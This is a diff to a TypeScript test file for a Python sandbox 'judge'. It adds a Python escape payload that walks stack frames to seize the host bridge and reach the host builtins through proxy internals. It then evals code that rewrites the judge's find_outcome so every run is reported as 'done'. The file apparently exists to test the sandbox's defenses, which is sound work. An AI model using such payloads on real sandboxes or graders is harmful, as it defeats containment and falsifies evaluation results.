@@ -6,6 +6,8 @@ import { createPythonEngine } from './python-engine.ts'
 const proof = `
 import json
 
+import flask
+
 
 class Store:
     def __init__(self, names):
@@ -76,6 +78,28 @@ def find(store, wanted):
     generator = look()
     list(generator)
     return real(store, wanted)`),
+  'takes the bridge and makes classes in the judge': wrapping(`
+def _take():
+    import sys
+    frame = sys._getframe()
+    while frame.f_code.co_name != "play_code":
+        frame = frame.f_back
+    bridge = frame.f_locals["bridge"]
+    key = lambda proxy: object.__getattribute__(proxy, "_lab")[1]
+    flask = bridge.ask("root", "import", "flask")
+    try:
+        bridge.ask("special", key(bridge.ask("get", key(flask), "Flask")), "__len__", (), ())
+    except AttributeError as error:
+        meta = bridge.ask("get", error.__dict__["_lab_key"], "obj")
+    name = bridge.ask("special", key(meta), "__call__", ("Name", (str,), {"__members__": 1, "startswith": lambda *_: False}), ())
+    built_in = bridge.ask("get", key(flask), bridge.ask("special", key(name), "__call__", ("__builtins__",), ()))
+    text = "setattr(__import__('sys').modules['lab_driver'], 'find_outcome', lambda job, compiled, planned, code: {'outcome': 'done', 'result': None if planned['step'] == 'works' else False})"
+    bridge.ask("special", key(built_in["eval"]), "__call__", (text,), ())
+
+try:
+    _take()
+except Exception:
+    pass`),
   'looks for functions named exploit in memory': `
 import gc
 def find(store, wanted):
